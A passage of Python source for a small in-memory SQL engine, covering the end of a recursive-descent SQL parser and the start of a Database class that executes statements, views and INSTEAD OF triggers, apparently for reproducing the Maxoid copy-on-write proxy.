        index = min(self.pos + offset, len(self.tokens) - 1)
        return self.tokens[index]

    def advance(self) -> Token:
        token = self.tokens[self.pos]
        if token.kind != "EOF":
            self.pos += 1
        return token

    def accept(self, kind: str, value: Optional[str] = None) -> Optional[Token]:
        if self.peek().matches(kind, value):
            return self.advance()
        return None

    def accept_keyword(self, *words: str) -> Optional[Token]:
        token = self.peek()
        if token.kind == "KEYWORD" and token.value in words:
            return self.advance()
        return None

    def expect(self, kind: str, value: Optional[str] = None) -> Token:
        token = self.peek()
        if not token.matches(kind, value):
            raise SqlSyntaxError(
                f"expected {value or kind} at position {token.position}, "
                f"found {token.value or 'end of input'!r} in {self.sql!r}"
            )
        return self.advance()

    def expect_keyword(self, word: str) -> Token:
        return self.expect("KEYWORD", word)

    # Keywords that may double as identifiers (column/table names), like
    # SQLite's non-reserved words. Type names are here because real apps
    # have columns literally named "text".
    NONRESERVED = ("REPLACE", "KEY", "ALL", "COUNT", "INTEGER", "TEXT", "REAL", "BLOB", "BOOLEAN")

    def identifier(self) -> str:
        token = self.peek()
        if token.kind == "IDENT":
            return self.advance().value
        if token.kind == "KEYWORD" and token.value in self.NONRESERVED:
            return self.advance().value.lower()
        raise SqlSyntaxError(
            f"expected identifier at position {token.position}, found {token.value!r}"
        )

    # -- statements -----------------------------------------------------------

    def parse_statement(self) -> ast.Statement:
        token = self.peek()
        if token.matches("KEYWORD", "SELECT"):
            return self.parse_select()
        if token.matches("KEYWORD", "INSERT") or token.matches("KEYWORD", "REPLACE"):
            return self.parse_insert()
        if token.matches("KEYWORD", "UPDATE"):
            return self.parse_update()
        if token.matches("KEYWORD", "DELETE"):
            return self.parse_delete()
        if token.matches("KEYWORD", "CREATE"):
            return self.parse_create()
        if token.matches("KEYWORD", "DROP"):
            return self.parse_drop()
        raise SqlSyntaxError(f"unsupported statement start: {token.value!r}")

    # -- SELECT ---------------------------------------------------------------

    def parse_select(self) -> ast.Select:
        cores = [self.parse_select_core()]
        while self.accept_keyword("UNION"):
            if not self.accept_keyword("ALL"):
                raise SqlSyntaxError("only UNION ALL is supported")
            cores.append(self.parse_select_core())
        order_by: List[ast.OrderItem] = []
        if self.accept_keyword("ORDER"):
            self.expect_keyword("BY")
            while True:
                expr = self.parse_expr()
                descending = False
                if self.accept_keyword("DESC"):
                    descending = True
                elif self.accept_keyword("ASC"):
                    pass
                order_by.append(ast.OrderItem(expr=expr, descending=descending))
                if not self.accept("OP", ","):
                    break
        limit = offset = None
        if self.accept_keyword("LIMIT"):
            limit = self.parse_expr()
            if self.accept_keyword("OFFSET"):
                offset = self.parse_expr()
            elif self.accept("OP", ","):
                # LIMIT offset, count (SQLite compatibility)
                offset, limit = limit, self.parse_expr()
        return ast.Select(cores=cores, order_by=order_by, limit=limit, offset=offset)

    def parse_select_core(self) -> ast.SelectCore:
        self.expect_keyword("SELECT")
        distinct = bool(self.accept_keyword("DISTINCT"))
        self.accept_keyword("ALL")
        items = [self.parse_select_item()]
        while self.accept("OP", ","):
            items.append(self.parse_select_item())
        source = None
        joins: List[ast.Join] = []
        if self.accept_keyword("FROM"):
            source = self.parse_table_ref()
            while True:
                if self.accept("OP", ","):
                    joins.append(ast.Join(table=self.parse_table_ref(), kind="CROSS"))
                    continue
                kind = None
                if self.accept_keyword("CROSS"):
                    kind = "CROSS"
                elif self.accept_keyword("INNER"):
                    kind = "INNER"
                elif self.accept_keyword("LEFT"):
                    kind = "LEFT"
                if kind is not None:
                    self.expect_keyword("JOIN")
                elif self.accept_keyword("JOIN"):
                    kind = "INNER"
                else:
                    break
                table = self.parse_table_ref()
                on = None
                if self.accept_keyword("ON"):
                    on = self.parse_expr()
                joins.append(ast.Join(table=table, on=on, kind=kind))
        where = None
        if self.accept_keyword("WHERE"):
            where = self.parse_expr()
        group_by: List[ast.Expr] = []
        having = None
        if self.accept_keyword("GROUP"):
            self.expect_keyword("BY")
            group_by.append(self.parse_expr())
            while self.accept("OP", ","):
                group_by.append(self.parse_expr())
            if self.accept_keyword("HAVING"):
                having = self.parse_expr()
        return ast.SelectCore(
            items=items,
            source=source,
            joins=joins,
            where=where,
            group_by=group_by,
            having=having,
            distinct=distinct,
        )

    def parse_select_item(self) -> ast.SelectItem:
        if self.accept("OP", "*"):
            return ast.SelectItem(expr=ast.Star())
        # table.* form
        if (
            self.peek().kind in ("IDENT",)
            and self.peek(1).matches("OP", ".")
            and self.peek(2).matches("OP", "*")
        ):
            table = self.advance().value
            self.advance()
            self.advance()
            return ast.SelectItem(expr=ast.Star(table=table))
        expr = self.parse_expr()
        alias = None
        if self.accept_keyword("AS"):
            alias = self.identifier()
        elif self.peek().kind == "IDENT":
            alias = self.advance().value
        return ast.SelectItem(expr=expr, alias=alias)

    def parse_table_ref(self) -> ast.TableRef:
        if self.accept("OP", "("):
            subquery = self.parse_select()
            self.expect("OP", ")")
            alias = None
            if self.accept_keyword("AS"):
                alias = self.identifier()
            elif self.peek().kind == "IDENT":
                alias = self.advance().value
            return ast.TableRef(subquery=subquery, alias=alias)
        name = self.identifier()
        alias = None
        if self.accept_keyword("AS"):
            alias = self.identifier()
        elif self.peek().kind == "IDENT":
            alias = self.advance().value
        return ast.TableRef(name=name, alias=alias)

    # -- DML --------------------------------------------------------------

    def parse_insert(self) -> ast.Insert:
        or_replace = False
        if self.accept_keyword("REPLACE"):
            or_replace = True
        else:
            self.expect_keyword("INSERT")
            if self.accept_keyword("OR"):
                self.expect_keyword("REPLACE")
                or_replace = True
        self.expect_keyword("INTO")
        table = self.identifier()
        columns: List[str] = []
        if self.accept("OP", "("):
            columns.append(self.identifier())
            while self.accept("OP", ","):
                columns.append(self.identifier())
            self.expect("OP", ")")
        if self.peek().matches("KEYWORD", "SELECT"):
            select = self.parse_select()
            return ast.Insert(
                table=table, columns=columns, values=[], or_replace=or_replace, select=select
            )
        self.expect_keyword("VALUES")
        values: List[List[ast.Expr]] = []
        while True:
            self.expect("OP", "(")
            row = [self.parse_expr()]
            while self.accept("OP", ","):
                row.append(self.parse_expr())
            self.expect("OP", ")")
            values.append(row)
            if not self.accept("OP", ","):
                break
        return ast.Insert(table=table, columns=columns, values=values, or_replace=or_replace)

    def parse_update(self) -> ast.Update:
        self.expect_keyword("UPDATE")
        table = self.identifier()
        self.expect_keyword("SET")
        assignments: List[Tuple[str, ast.Expr]] = []
        while True:
            column = self.identifier()
            self.expect("OP", "=")
            assignments.append((column, self.parse_expr()))
            if not self.accept("OP", ","):
                break
        where = None
        if self.accept_keyword("WHERE"):
            where = self.parse_expr()
        return ast.Update(table=table, assignments=assignments, where=where)

    def parse_delete(self) -> ast.Delete:
        self.expect_keyword("DELETE")
        self.expect_keyword("FROM")
        table = self.identifier()
        where = None
        if self.accept_keyword("WHERE"):
            where = self.parse_expr()
        return ast.Delete(table=table, where=where)

    # -- DDL --------------------------------------------------------------

    def parse_create(self) -> ast.Statement:
        self.expect_keyword("CREATE")
        if self.accept_keyword("TABLE"):
            return self.parse_create_table()
        if self.accept_keyword("VIEW"):
            return self.parse_create_view()
        if self.accept_keyword("TRIGGER"):
            return self.parse_create_trigger()
        raise SqlSyntaxError("expected TABLE, VIEW or TRIGGER after CREATE")

    def _if_not_exists(self) -> bool:
        if self.accept_keyword("IF"):
            self.expect_keyword("NOT")
            self.expect_keyword("EXISTS")
            return True
        return False

    def parse_create_table(self) -> ast.CreateTable:
        if_not_exists = self._if_not_exists()
        name = self.identifier()
        self.expect("OP", "(")
        columns = [self.parse_column_def()]
        while self.accept("OP", ","):
            columns.append(self.parse_column_def())
        self.expect("OP", ")")
        return ast.CreateTable(name=name, columns=columns, if_not_exists=if_not_exists)

    def parse_column_def(self) -> ast.ColumnDef:
        name = self.identifier()
        column = ast.ColumnDef(name=name)
        type_token = self.accept_keyword("INTEGER", "TEXT", "REAL", "BLOB", "BOOLEAN")
        if type_token is not None:
            column.type_name = type_token.value
        while True:
            if self.accept_keyword("PRIMARY"):
                self.expect_keyword("KEY")
                column.primary_key = True
                continue
            if self.accept_keyword("NOT"):
                self.expect_keyword("NULL")
                column.not_null = True
                continue
            if self.accept_keyword("UNIQUE"):
                column.unique = True
                continue
            if self.accept_keyword("DEFAULT"):
                column.default = self.parse_primary()
                continue
            break
        return column

    def parse_create_view(self) -> ast.CreateView:
        if_not_exists = self._if_not_exists()
        name = self.identifier()
        self.expect_keyword("AS")
        select = self.parse_select()
        return ast.CreateView(name=name, select=select, if_not_exists=if_not_exists)

    def parse_create_trigger(self) -> ast.CreateTrigger:
        if_not_exists = self._if_not_exists()
        name = self.identifier()
        self.expect_keyword("INSTEAD")
        self.expect_keyword("OF")
        event_token = self.accept_keyword("INSERT", "UPDATE", "DELETE")
        if event_token is None:
            raise SqlSyntaxError("expected INSERT, UPDATE or DELETE in trigger")
        self.expect_keyword("ON")
        view = self.identifier()
        self.expect_keyword("BEGIN")
        body: List[ast.TriggerAction] = []
        while not self.peek().matches("KEYWORD", "END"):
            statement = self.parse_statement()
            if not isinstance(statement, (ast.Insert, ast.Update, ast.Delete)):
                raise SqlSyntaxError("trigger bodies may contain only INSERT/UPDATE/DELETE")
            body.append(ast.TriggerAction(statement=statement))
            self.expect("OP", ";")
        self.expect_keyword("END")
        return ast.CreateTrigger(
            name=name, event=event_token.value, view=view, body=body, if_not_exists=if_not_exists
        )

    def parse_drop(self) -> ast.DropStatement:
        self.expect_keyword("DROP")
        kind_token = self.accept_keyword("TABLE", "VIEW", "TRIGGER")
        if kind_token is None:
            raise SqlSyntaxError("expected TABLE, VIEW or TRIGGER after DROP")
        if_exists = False
        if self.accept_keyword("IF"):
            self.expect_keyword("EXISTS")
            if_exists = True
        name = self.identifier()
        return ast.DropStatement(kind=kind_token.value, name=name, if_exists=if_exists)

    # -- expressions ----------------------------------------------------------

    def parse_expr(self) -> ast.Expr:
        return self.parse_or()

    def parse_or(self) -> ast.Expr:
        left = self.parse_and()
        while self.accept_keyword("OR"):
            left = ast.Binary(op="OR", left=left, right=self.parse_and())
        return left

    def parse_and(self) -> ast.Expr:
        left = self.parse_not()
        while self.accept_keyword("AND"):
            left = ast.Binary(op="AND", left=left, right=self.parse_not())
        return left

    def parse_not(self) -> ast.Expr:
        if self.peek().matches("KEYWORD", "NOT") and not self.peek(1).matches("KEYWORD", "EXISTS"):
            self.advance()
            return ast.Unary(op="NOT", operand=self.parse_not())
        return self.parse_comparison()

    def parse_comparison(self) -> ast.Expr:
        left = self.parse_additive()
        while True:
            token = self.peek()
            if token.kind == "OP" and token.value in ("=", "<>", "!=", "<", "<=", ">", ">="):
                self.advance()
                op = "<>" if token.value == "!=" else token.value
                left = ast.Binary(op=op, left=left, right=self.parse_additive())
                continue
            if token.matches("KEYWORD", "IS"):
                self.advance()
                negated = bool(self.accept_keyword("NOT"))
                self.expect_keyword("NULL")
                left = ast.IsNull(operand=left, negated=negated)
                continue
            negated = False
            if token.matches("KEYWORD", "NOT"):
                follower = self.peek(1)
                if follower.kind == "KEYWORD" and follower.value in ("IN", "LIKE", "BETWEEN", "GLOB"):
                    self.advance()
                    negated = True
                    token = self.peek()
                else:
                    break
            if token.matches("KEYWORD", "IN"):
                self.advance()
                self.expect("OP", "(")
                if self.peek().matches("KEYWORD", "SELECT"):
                    select = self.parse_select()
                    self.expect("OP", ")")
                    left = ast.InSelect(operand=left, select=select, negated=negated)
                else:
                    items = []
                    if not self.peek().matches("OP", ")"):
                        items.append(self.parse_expr())
                        while self.accept("OP", ","):
                            items.append(self.parse_expr())
                    self.expect("OP", ")")
                    left = ast.InList(operand=left, items=items, negated=negated)
                continue
            if token.matches("KEYWORD", "LIKE") or token.matches("KEYWORD", "GLOB"):
                self.advance()
                op = token.value
                pattern = self.parse_additive()
                expr: ast.Expr = ast.Binary(op=op, left=left, right=pattern)
                left = ast.Unary(op="NOT", operand=expr) if negated else expr
                continue
            if token.matches("KEYWORD", "BETWEEN"):
                self.advance()
                low = self.parse_additive()
                self.expect_keyword("AND")
                high = self.parse_additive()
                left = ast.Between(operand=left, low=low, high=high, negated=negated)
                continue
            break
        return left

    def parse_additive(self) -> ast.Expr:
        left = self.parse_multiplicative()
        while True:
            token = self.peek()
            if token.kind == "OP" and token.value in ("+", "-", "||"):
                self.advance()
                left = ast.Binary(op=token.value, left=left, right=self.parse_multiplicative())
            else:
                return left

    def parse_multiplicative(self) -> ast.Expr:
        left = self.parse_unary()
        while True:
            token = self.peek()
            if token.kind == "OP" and token.value in ("*", "/", "%"):
                self.advance()
                left = ast.Binary(op=token.value, left=left, right=self.parse_unary())
            else:
                return left

    def parse_unary(self) -> ast.Expr:
        token = self.peek()
        if token.kind == "OP" and token.value in ("-", "+"):
            self.advance()
            return ast.Unary(op=token.value, operand=self.parse_unary())
        return self.parse_primary()

    def parse_primary(self) -> ast.Expr:
        token = self.peek()
        if token.kind == "NUMBER":
            self.advance()
            value = float(token.value) if "." in token.value else int(token.value)
            return ast.Literal(value=value)
        if token.kind == "STRING":
            self.advance()
            return ast.Literal(value=token.value)
        if token.matches("KEYWORD", "NULL"):
            self.advance()
            return ast.Literal(value=None)
        if token.matches("OP", "?"):
            self.advance()
            param = ast.Param(index=self.param_count)
            self.param_count += 1
            return param
        if token.matches("KEYWORD", "CASE"):
            return self.parse_case()
        if token.matches("KEYWORD", "EXISTS") or (
            token.matches("KEYWORD", "NOT") and self.peek(1).matches("KEYWORD", "EXISTS")
        ):
            negated = False
            if token.matches("KEYWORD", "NOT"):
                self.advance()
                negated = True
            self.expect_keyword("EXISTS")
            self.expect("OP", "(")
            select = self.parse_select()
            self.expect("OP", ")")
            return ast.ExistsSelect(select=select, negated=negated)
        if token.matches("OP", "("):
            self.advance()
            if self.peek().matches("KEYWORD", "SELECT"):
                select = self.parse_select()
                self.expect("OP", ")")
                return ast.ScalarSelect(select=select)
            expr = self.parse_expr()
            self.expect("OP", ")")
            return expr
        if token.kind == "IDENT" or (
            token.kind == "KEYWORD" and token.value in self.NONRESERVED
        ):
            # Function call or column reference.
            name = self.advance().value
            if token.kind == "KEYWORD":
                name = name.lower()
            if self.accept("OP", "("):
                star = False
                distinct = False
                args: List[ast.Expr] = []
                if self.accept("OP", "*"):
                    star = True
                elif not self.peek().matches("OP", ")"):
                    distinct = bool(self.accept_keyword("DISTINCT"))
                    args.append(self.parse_expr())
                    while self.accept("OP", ","):
                        args.append(self.parse_expr())
                self.expect("OP", ")")
                return ast.FunctionCall(name=name.lower(), args=args, star=star, distinct=distinct)
            if self.accept("OP", "."):
                column = self.identifier()
                return ast.Column(name=column, table=name)
            return ast.Column(name=name)
        raise SqlSyntaxError(
            f"unexpected token {token.value!r} at position {token.position} in {self.sql!r}"
        )

    def parse_case(self) -> ast.Expr:
        self.expect_keyword("CASE")
        operand = None
        if not self.peek().matches("KEYWORD", "WHEN"):
            operand = self.parse_expr()
        whens: List[Tuple[ast.Expr, ast.Expr]] = []
        while self.accept_keyword("WHEN"):
            condition = self.parse_expr()
            self.expect_keyword("THEN")
            whens.append((condition, self.parse_expr()))
        otherwise = None
        if self.accept_keyword("ELSE"):
            otherwise = self.parse_expr()
        self.expect_keyword("END")
        return ast.CaseExpr(operand=operand, whens=whens, otherwise=otherwise)


def parse(sql: str) -> ast.Statement:
    """Parse one SQL statement; trailing semicolon permitted."""
    parser = _Parser(sql)
    statement = parser.parse_statement()
    parser.accept("OP", ";")
    if not parser.peek().matches("EOF"):
        token = parser.peek()
        raise SqlSyntaxError(
            f"trailing input at position {token.position}: {token.value!r} in {sql!r}"
        )
    # Stamp the number of ? placeholders so the engine can validate bind
    # arity up front (SQLite errors at bind time, not lazily).
    statement.param_count = parser.param_count  # type: ignore[attr-defined]
    return statement
