"""The mini SQL engine: statement execution over in-memory tables.

The public entry point is :class:`Database`. ``execute(sql, params)``
parses (with a statement cache), dispatches, and returns a
:class:`ResultSet`. SQL views are stored SELECTs re-evaluated on use;
``INSTEAD OF`` triggers intercept writes to views — the two features the
Maxoid COW proxy is built from.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional, Sequence, Set, Tuple

from repro.errors import (
    SqlError,
    SqlIntegrityError,
    SqlNameError,
    SqlReadOnlyError,
)
from repro.minisql import ast_nodes as ast
from repro.minisql import planner
from repro.minisql.expr import (
    Evaluator,
    Scope,
    contains_aggregate,
    is_aggregate_call,
    sql_compare,
)
from repro.minisql.parser import parse
from repro.minisql.table import Table
from repro.obs import OBS as _OBS


@dataclass
class ResultSet:
    """The result of one statement."""

    columns: List[str] = field(default_factory=list)
    rows: List[tuple] = field(default_factory=list)
    rowcount: int = 0
    lastrowid: Optional[int] = None

    def dicts(self) -> List[Dict[str, object]]:
        """Rows as dictionaries keyed by column name."""
        return [dict(zip(self.columns, row)) for row in self.rows]

    def scalar(self) -> object:
        """First column of the first row (None if empty)."""
        if not self.rows:
            return None
        return self.rows[0][0]

    def __len__(self) -> int:
        return len(self.rows)

    def __iter__(self):
        return iter(self.rows)


@dataclass
class _View:
    name: str
    select: ast.Select
    columns: List[str]


@dataclass
class _Trigger:
    name: str
    event: str
    view: str
    body: List[ast.TriggerAction]


class _ProjectedRow:
    """A projected output row plus the scope it came from (for ORDER BY on
    non-projected columns)."""

    __slots__ = ("values", "scope")

    def __init__(self, values: tuple, scope: Scope) -> None:
        self.values = values
        self.scope = scope


_MISSING = object()


class Database:
    """An in-memory SQL database.

    ``sqlite_emulation`` selects the subquery-flattening behaviour (see
    :mod:`repro.minisql.planner`); the default matches SQLite 3.8.6, the
    version the Maxoid authors ported to Android.
    """

    def __init__(
        self,
        sqlite_emulation: str = planner.FLATTEN_ORDER_BY_SUBSET,
        obs: Optional[object] = None,
    ) -> None:
        # The observability context of whoever owns this database (a COW
        # proxy passes its device's handle; bare databases use OBS).
        self.obs = obs if obs is not None else _OBS
        self.tables: Dict[str, Table] = {}
        self.views: Dict[str, _View] = {}
        # view name -> event -> trigger
        self.triggers: Dict[str, Dict[str, _Trigger]] = {}
        self.sqlite_emulation = sqlite_emulation
        self.stats = planner.PlannerStats()
        self._statement_cache: Dict[str, ast.Statement] = {}
        self._cache_limit = 512

    # ------------------------------------------------------------------
    # Entry points
    # ------------------------------------------------------------------

    def execute(self, sql: str, params: Sequence[object] = ()) -> ResultSet:
        """Parse and execute one SQL statement."""
        if self.obs.enabled:
            with self.obs.tracer.span(
                "sql.execute", sql=sql if len(sql) <= 200 else sql[:197] + "..."
            ) as span:
                result = self._execute_impl(sql, params)
                span.set(rows=len(result.rows), rowcount=result.rowcount)
                self.obs.metrics.count("sql.statements")
                self.obs.metrics.observe("sql.execute.ms", span.elapsed_ms)
                return result
        return self._execute_impl(sql, params)

    def _execute_impl(self, sql: str, params: Sequence[object]) -> ResultSet:
        statement = self._statement_cache.get(sql)
        if statement is None:
            statement = parse(sql)
            if len(self._statement_cache) >= self._cache_limit:
                self._statement_cache.clear()
            self._statement_cache[sql] = statement
        required = getattr(statement, "param_count", 0)
        if len(params) < required:
            raise SqlError(
                f"statement requires {required} parameters, got {len(params)}: {sql!r}"
            )
        result = self._dispatch(statement, list(params))
        if (
            self.obs.prov
            and isinstance(statement, ast.Insert)
            and result.lastrowid is not None
        ):
            # Raw inserts (outside the COW proxy) still stamp the row, so
            # provider state written directly is never label-less.
            self.obs.provenance.row_write(
                statement.table.lower(), result.lastrowid, op="sql.insert"
            )
        return result

    def executemany(self, sql: str, param_rows: Sequence[Sequence[object]]) -> ResultSet:
        """Execute ``sql`` once per parameter row; returns the last result."""
        result = ResultSet()
        for params in param_rows:
            result = self.execute(sql, params)
        return result

    def explain(self, sql: str) -> List[str]:
        """Describe how a SELECT would execute (a minimal EXPLAIN).

        One line per FROM source: ``SCAN table``, ``VIEW name (FLATTEN)``
        for a UNION ALL view the planner would push the query into, or
        ``VIEW name (MATERIALIZE)`` when footnote-5 rules force the view
        into a temp result first. Subqueries are annotated recursively.
        """
        statement = parse(sql)
        if not isinstance(statement, ast.Select):
            return [f"{type(statement).__name__.upper()}"]
        return self._explain_select(statement)

    def _explain_select(self, select: ast.Select, depth: int = 0) -> List[str]:
        pad = "  " * depth
        lines: List[str] = []
        for core in select.cores:
            refs = []
            if core.source is not None:
                refs.append(core.source)
            refs.extend(join.table for join in core.joins)
            if not refs:
                lines.append(f"{pad}CONSTANT ROW")
            for ref in refs:
                if ref.subquery is not None:
                    lines.append(f"{pad}SUBQUERY {ref.effective_name}:")
                    lines.extend(self._explain_select(ref.subquery, depth + 1))
                    continue
                name = (ref.name or "").lower()
                if name in self.tables:
                    lines.append(f"{pad}SCAN {name} ({len(self.tables[name])} rows)")
                elif name in self.views:
                    view = self.views[name]
                    if view.select.is_compound:
                        queried = self._queried_column_set(core)
                        flattens = planner.should_flatten(
                            view.select,
                            select.order_by if len(select.cores) == 1 else [],
                            queried,
                            self.sqlite_emulation,
                        )
                        mode = "FLATTEN" if flattens else "MATERIALIZE"
                        lines.append(f"{pad}VIEW {name} ({mode})")
                    else:
                        lines.append(f"{pad}VIEW {name} (EXPAND)")
                    lines.extend(self._explain_select(view.select, depth + 1))
                else:
                    lines.append(f"{pad}UNKNOWN {ref.name}")
        if select.order_by:
            lines.append(f"{pad}ORDER BY {len(select.order_by)} key(s)")
        if select.limit is not None:
            lines.append(f"{pad}LIMIT")
        return lines

    def table_names(self) -> List[str]:
        """Sorted names of all base tables."""
        return sorted(self.tables)

    def view_names(self) -> List[str]:
        """Sorted names of all views."""
        return sorted(self.views)

    def has_table(self, name: str) -> bool:
        """True if a base table named ``name`` exists."""
        return name.lower() in self.tables

    def has_view(self, name: str) -> bool:
        """True if a view named ``name`` exists."""
        return name.lower() in self.views

    def table(self, name: str) -> Table:
        """The :class:`Table` object for ``name`` (raises if unknown)."""
        table = self.tables.get(name.lower())
        if table is None:
            raise SqlNameError(f"no such table: {name}")
        return table

    # ------------------------------------------------------------------
    # Dispatch
    # ------------------------------------------------------------------

    def _dispatch(
        self, statement: ast.Statement, params: List[object], scope: Optional[Scope] = None
    ) -> ResultSet:
        if isinstance(statement, ast.Select):
            return self._execute_select(statement, params, outer_scope=scope)
        if isinstance(statement, ast.Insert):
            return self._execute_insert(statement, params, scope)
        if isinstance(statement, ast.Update):
            return self._execute_update(statement, params, scope)
        if isinstance(statement, ast.Delete):
            return self._execute_delete(statement, params, scope)
        if isinstance(statement, ast.CreateTable):
            return self._execute_create_table(statement)
        if isinstance(statement, ast.CreateView):
            return self._execute_create_view(statement)
        if isinstance(statement, ast.CreateTrigger):
            return self._execute_create_trigger(statement)
        if isinstance(statement, ast.DropStatement):
            return self._execute_drop(statement)
        raise SqlError(f"cannot execute {type(statement).__name__}")

    def _evaluator(self, params: Sequence[object]) -> Evaluator:
        return Evaluator(
            params,
            subquery_runner=lambda select, scope: self._execute_select(
                select, list(params), outer_scope=scope
            ).rows,
        )

    # ------------------------------------------------------------------
    # DDL
    # ------------------------------------------------------------------

    def _execute_create_table(self, statement: ast.CreateTable) -> ResultSet:
        key = statement.name.lower()
        if key in self.tables or key in self.views:
            if statement.if_not_exists:
                return ResultSet()
            raise SqlNameError(f"table {statement.name} already exists")
        self.tables[key] = Table(statement.name, statement.columns)
        return ResultSet()

    def _execute_create_view(self, statement: ast.CreateView) -> ResultSet:
        key = statement.name.lower()
        if key in self.tables or key in self.views:
            if statement.if_not_exists:
                return ResultSet()
            raise SqlNameError(f"view {statement.name} already exists")
        columns = self._select_output_columns(statement.select)
        self.views[key] = _View(name=statement.name, select=statement.select, columns=columns)
        return ResultSet()

    def define_view(self, name: str, select: ast.Select) -> None:
        """Register a view directly from a SELECT AST.

        Used by the COW proxy to build per-initiator copies of user-defined
        views whose base tables have been rewritten to COW views — textual
        SQL rewriting would be fragile, so the proxy rewrites the AST.
        """
        key = name.lower()
        if key in self.tables or key in self.views:
            raise SqlNameError(f"view {name} already exists")
        columns = self._select_output_columns(select)
        self.views[key] = _View(name=name, select=select, columns=columns)

    def _execute_create_trigger(self, statement: ast.CreateTrigger) -> ResultSet:
        view_key = statement.view.lower()
        if view_key not in self.views:
            raise SqlNameError(
                f"INSTEAD OF triggers require a view; {statement.view} is not one"
            )
        per_view = self.triggers.setdefault(view_key, {})
        if statement.event in per_view and statement.if_not_exists:
            return ResultSet()
        per_view[statement.event] = _Trigger(
            name=statement.name,
            event=statement.event,
            view=statement.view,
            body=statement.body,
        )
        return ResultSet()

    def _execute_drop(self, statement: ast.DropStatement) -> ResultSet:
        key = statement.name.lower()
        if statement.kind == "TABLE":
            if key not in self.tables:
                if statement.if_exists:
                    return ResultSet()
                raise SqlNameError(f"no such table: {statement.name}")
            del self.tables[key]
        elif statement.kind == "VIEW":
            if key not in self.views:
                if statement.if_exists:
                    return ResultSet()
                raise SqlNameError(f"no such view: {statement.name}")
            del self.views[key]
            self.triggers.pop(key, None)
        else:  # TRIGGER
            for per_view in self.triggers.values():
                for event, trigger in list(per_view.items()):
                    if trigger.name.lower() == key:
                        del per_view[event]
                        return ResultSet()
            if not statement.if_exists:
                raise SqlNameError(f"no such trigger: {statement.name}")
        return ResultSet()

    # ------------------------------------------------------------------
    # SELECT
    # ------------------------------------------------------------------

    def _select_output_columns(self, select: ast.Select) -> List[str]:
        """Column names a SELECT produces (used for view schemas)."""
        core = select.cores[0]
        names: List[str] = []
        for item in core.items:
            if isinstance(item.expr, ast.Star):
                names.extend(self._star_columns(core, item.expr))
            elif item.alias:
                names.append(item.alias)
            elif isinstance(item.expr, ast.Column):
                names.append(item.expr.name)
            else:
                names.append(f"col{len(names) + 1}")
        return names

    def _star_columns(self, core: ast.SelectCore, star: ast.Star) -> List[str]:
        names: List[str] = []
        refs = []
        if core.source is not None:
            refs.append(core.source)
        refs.extend(join.table for join in core.joins)
        for ref in refs:
            if star.table and ref.effective_name.lower() != star.table.lower():
                continue
            names.extend(self._source_columns(ref))
        return names

    def _source_columns(self, ref: ast.TableRef) -> List[str]:
        if ref.subquery is not None:
            return self._select_output_columns(ref.subquery)
        assert ref.name is not None
        key = ref.name.lower()
        if key in self.tables:
            return [c.name for c in self.tables[key].columns]
        if key in self.views:
            return list(self.views[key].columns)
        raise SqlNameError(f"no such table: {ref.name}")

    def _source_rows(
        self,
        ref: ast.TableRef,
        params: List[object],
        outer_scope: Optional[Scope],
    ) -> Tuple[List[str], List[Dict[str, object]]]:
        """Produce (column names, row dicts) for a FROM source."""
        if ref.subquery is not None:
            result = self._execute_select(ref.subquery, params, outer_scope=outer_scope)
            rows = [dict(zip([c.lower() for c in result.columns], row)) for row in result.rows]
            return result.columns, rows
        assert ref.name is not None
        key = ref.name.lower()
        if key in self.tables:
            table = self.tables[key]
            self.stats.rows_scanned += len(table.rows)
            return (
                [c.name for c in table.columns],
                [dict(row) for row in table.rows.values()],
            )
        if key in self.views:
            view = self.views[key]
            result = self._execute_select(view.select, params, outer_scope=outer_scope)
            self.stats.materialized_views += 1
            self.stats.materialized_rows += len(result.rows)
            rows = [dict(zip([c.lower() for c in view.columns], row)) for row in result.rows]
            return list(view.columns), rows
        raise SqlNameError(f"no such table: {ref.name}")

    @staticmethod
    def _scope_for(
        name: str, columns: List[str], row: Dict[str, object], outer: Optional[Scope]
    ) -> Scope:
        bindings: Dict[str, object] = {}
        lowered = name.lower()
        for column in columns:
            key = column.lower()
            value = row.get(key)
            bindings[key] = value
            bindings[f"{lowered}.{key}"] = value
        return Scope(bindings, outer)

    @staticmethod
    def _merge_scopes(base: Scope, extra: Scope) -> Scope:
        merged = dict(base.bindings)
        merged.update(extra.bindings)
        return Scope(merged, extra.outer or base.outer)

    def _execute_select(
        self,
        select: ast.Select,
        params: List[object],
        outer_scope: Optional[Scope] = None,
    ) -> ResultSet:
        evaluator = self._evaluator(params)
        projected: List[_ProjectedRow] = []
        columns: List[str] = []
        for index, core in enumerate(select.cores):
            core_columns, core_rows = self._execute_core(
                core, select, params, evaluator, outer_scope
            )
            if index == 0:
                columns = core_columns
            elif len(core_columns) != len(columns):
                raise SqlError("UNION ALL arms have differing column counts")
            projected.extend(core_rows)
        # ORDER BY over the compound result.
        if select.order_by:
            projected = self._order_rows(projected, columns, select.order_by, evaluator)
        # LIMIT / OFFSET
        if select.limit is not None or select.offset is not None:
            scope = outer_scope or Scope({})
            offset = 0
            if select.offset is not None:
                offset = int(evaluator.evaluate(select.offset, scope) or 0)
            if select.limit is not None:
                limit = evaluator.evaluate(select.limit, scope)
                if limit is not None and int(limit) >= 0:
                    projected = projected[offset : offset + int(limit)]
                else:
                    projected = projected[offset:]
            else:
                projected = projected[offset:]
        rows = [p.values for p in projected]
        return ResultSet(columns=columns, rows=rows, rowcount=len(rows))

    def _queried_column_set(self, core: ast.SelectCore) -> Optional[Set[str]]:
        """Lowercased output column names, or None when the core selects *."""
        names: Set[str] = set()
        for item in core.items:
            if isinstance(item.expr, ast.Star):
                return None
            if item.alias:
                names.add(item.alias.lower())
            if isinstance(item.expr, ast.Column):
                names.add(item.expr.name.lower())
        return names

    def _execute_core(
        self,
        core: ast.SelectCore,
        enclosing: ast.Select,
        params: List[object],
        evaluator: Evaluator,
        outer_scope: Optional[Scope],
    ) -> Tuple[List[str], List[_ProjectedRow]]:
        # --- planner hook: flattened execution over a UNION ALL view -----
        flattened = self._try_flattened_view(core, enclosing, params, evaluator, outer_scope)
        if flattened is not None:
            return flattened
        # --- build the joined row set -------------------------------------
        scopes: List[Scope]
        source_columns: List[Tuple[str, List[str]]] = []
        if core.source is None:
            scopes = [Scope({}, outer_scope)]
        else:
            name = core.source.effective_name
            cols, rows = self._source_rows(core.source, params, outer_scope)
            source_columns.append((name, cols))
            scopes = [self._scope_for(name, cols, row, outer_scope) for row in rows]
            for join in core.joins:
                join_name = join.table.effective_name
                join_cols, join_rows = self._source_rows(join.table, params, outer_scope)
                source_columns.append((join_name, join_cols))
